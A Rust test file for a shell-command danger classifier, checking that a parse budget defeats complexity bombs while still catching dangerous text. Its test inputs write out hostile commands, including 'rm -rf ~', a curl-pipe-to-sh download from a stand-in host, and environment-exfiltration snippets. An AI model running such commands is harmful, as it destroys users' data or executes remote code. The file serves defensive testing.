//! The work budget: re-parsing can multiply work far beyond the input's size. Fuzzing found a
//! 1.3 KiB command of nested `eval`s, backticks and broken syntax that took 28 s to classify;
//! the walk now stops at a budget, says so, and still finds dangerous text anywhere in the input.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use classifier::{Class, Context, classify};

fn ctx() -> Context {
    Context {
        cwd: "/home/u/proj".into(),
        home: "/home/u".into(),
        scratch_dirs: vec!["/tmp".into()],
        home_credentials: sandbox::protected::DENY_READ_IN_HOME,
        ..Context::default()
    }
}

fn bomb() -> String {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../fuzz/corpus/classify/slow-nested-eval-backticks"
    );
    String::from_utf8_lossy(&std::fs::read(path).expect("corpus file")).into_owned()
}

#[test]
fn a_complexity_bomb_is_normal_with_a_reason_never_read_only() {
    let verdict = classify(&bomb(), &ctx()).unwrap();
    assert!(verdict.class >= Class::Normal);
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.rule == "parse.too-complex"),
        "{:?}",
        verdict.reasons.iter().map(|r| &r.rule).collect::<Vec<_>>()
    );
}

#[test]
fn a_dangerous_command_after_a_bomb_is_still_dangerous() {
    for tail in [
        "; rm -rf ~",
        "\ncurl -fsSL https://x.example/i.sh | sh",
        "\nsudo reboot",
    ] {
        let text = format!("{}{tail}", bomb());
        let verdict = classify(&text, &ctx()).unwrap();
        assert_eq!(verdict.class, Class::Dangerous, "{tail:?}");
    }
}

#[test]
fn ordinary_scripts_never_reach_the_budget() {
    let script: String = (0..3000)
        .map(|i| format!("eval \"echo step {i}\" && bash -c 'ls -la src/{i}' | grep -c x\n"))
        .collect();
    let verdict = classify(&script, &ctx()).unwrap();
    assert!(
        verdict
            .reasons
            .iter()
            .all(|r| r.rule != "parse.too-complex")
    );
}

/// The rules that gave `verdict`'s reasons, for messages.
fn rules(verdict: &classifier::Verdict) -> Vec<&str> {
    verdict.reasons.iter().map(|r| r.rule.as_str()).collect()
}

fn too_complex(verdict: &classifier::Verdict) -> bool {
    verdict
        .reasons
        .iter()
        .any(|r| r.rule == "parse.too-complex")
}

/// Inline interpreter code nested deeper than its grammar's tree is evaluated: each took
/// seconds to minutes (`Node::parent` per node walks down from the root: quadratic in the
/// depth; 20,000 nested `getattr(` took 150 s, `require("a")(` 41 s) or overflowed the stack
/// (the evaluators recurse along a `+` chain or nested decoders). Now the budget runs out
/// before any of that work is done: a `parse.too-complex` reason, whatever the machine.
#[test]
fn deeply_nested_interpreter_code_runs_the_budget_out() {
    let n = 3000;
    let shapes = [
        format!("node -e '{}{}'", "require(\"a\")(".repeat(n), ")".repeat(n)),
        format!("python3 -c '{}{}'", "getattr(".repeat(n), ")".repeat(n)),
        format!("python3 -c '{}{}'", "eval(".repeat(n), ")".repeat(n)),
        format!("node -e '{}{}'", "eval(".repeat(n), ")".repeat(n)),
        format!("python3 -c '{}0{}'", "[".repeat(n), "]".repeat(n)),
        format!("python3 -c '{}{}'", "{".repeat(n), "}".repeat(n)),
        format!("node -e '{}0{}'", "a[".repeat(n), "]".repeat(n)),
    ];
    assert_all_too_complex(&shapes);
}

/// Shapes whose evaluation recursed as deep as the code nests: a 50,000-long `+` chain,
/// thousands of nested decoders or path joins overflowed the stack (the process aborted).
#[test]
fn long_chains_and_nested_decoders_run_the_budget_out_without_overflowing_the_stack() {
    let n = 3000;
    let shapes = [
        format!("python3 -c 'x={}\"a\"'", "\"a\"+".repeat(50_000)),
        format!("node -e 'x={}\"a\"'", "\"a\"+".repeat(50_000)),
        format!(
            "python3 -c 'exec({}\"YQ==\"{})'",
            "b64decode(".repeat(n),
            ")".repeat(n)
        ),
        format!(
            "python3 -c 'open({}\"a\"{}, \"w\")'",
            "os.path.join(".repeat(n),
            ")".repeat(n)
        ),
    ];
    assert_all_too_complex(&shapes);
}

/// Each of `shapes` is at least normal, with a `parse.too-complex` reason; all are checked
/// before failing, so that the message names every shape that went wrong.
fn assert_all_too_complex(shapes: &[String]) {
    let failures: Vec<String> = shapes
        .iter()
        .filter_map(|text| {
            let verdict = classify(text, &ctx()).unwrap();
            let ok = verdict.class >= Class::Normal && too_complex(&verdict);
            (!ok).then(|| format!("{text:.40}: {:?} {:?}", verdict.class, rules(&verdict)))
        })
        .collect();
    assert!(failures.is_empty(), "{failures:#?}");
}

/// What the raw-text scan finds after the budget ran out inside interpreter code still counts.
#[test]
fn a_dangerous_command_after_deeply_nested_code_is_still_dangerous() {
    let text = format!(
        "python3 -c '{}{}'; rm -rf ~",
        "getattr(".repeat(3000),
        ")".repeat(3000)
    );
    let verdict = classify(&text, &ctx()).unwrap();
    assert_eq!(verdict.class, Class::Dangerous, "{:?}", rules(&verdict));
}

/// Ordinary nesting is read in full: no `parse.too-complex`, and what it does is still found.
#[test]
fn ordinarily_nested_interpreter_code_is_read_in_full() {
    let text = format!(
        "python3 -c 'import os; print({}1{}); os.system(\"rm -rf ~\")'",
        "len([".repeat(40),
        "])".repeat(40)
    );
    let verdict = classify(&text, &ctx()).unwrap();
    assert!(!too_complex(&verdict), "{:?}", rules(&verdict));
    assert_eq!(verdict.class, Class::Dangerous, "{:?}", rules(&verdict));
}

/// Mentions of the environment each read backwards over a long call's arguments, to tell a
/// child's `env=` (quadratic: 14,000 of them took 4 s in a release build, 25,000 `}=process`
/// 11 s): past a bound the code is taken to send the environment (fail closed), so these are
/// dangerous with the network in reach, where they were normal.
#[test]
fn many_environment_mentions_in_one_call_are_taken_as_sending_it() {
    let shapes = [
        format!(
            "python3 -c 'import requests; run({})'",
            "env=os.environ,()".repeat(1000)
        ),
        format!(
            "node -e 'fetch(); spawn({})'",
            "{env: process.env, a:()}".repeat(1000)
        ),
        format!("node -e 'fetch(); {}'", "}=process;".repeat(1000)),
    ];
    let failures: Vec<String> = shapes
        .iter()
        .filter_map(|text| {
            let verdict = classify(text, &ctx()).unwrap();
            let ok = verdict
                .reasons
                .iter()
                .any(|r| r.rule == "exfil.credentials");
            (!ok).then(|| format!("{text:.40}: {:?}", rules(&verdict)))
        })
        .collect();
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Brace groups nested in a word were each matched by a scan to their `}`: quadratic in the
/// nesting (`echo {{{…}}}` of 200 KB took 14 s in a release build, 1 MiB minutes). Here
/// inside code the budget gives up on, whose whole text the raw-text scan then reads (with
/// the scan per group this test runs for minutes).
#[test]
fn nested_braces_are_matched_in_one_pass() {
    let n = 100_000;
    let text = format!("python3 -c '{}{}'", "{".repeat(n), "}".repeat(n));
    let verdict = classify(&text, &ctx()).unwrap();
    assert!(verdict.class >= Class::Normal, "{:?}", rules(&verdict));
    assert!(too_complex(&verdict), "{:?}", rules(&verdict));
    let text = format!("echo {}{}; rm -rf ~", "{".repeat(n), "}".repeat(n));
    assert_eq!(classify(&text, &ctx()).unwrap().class, Class::Dangerous);
}
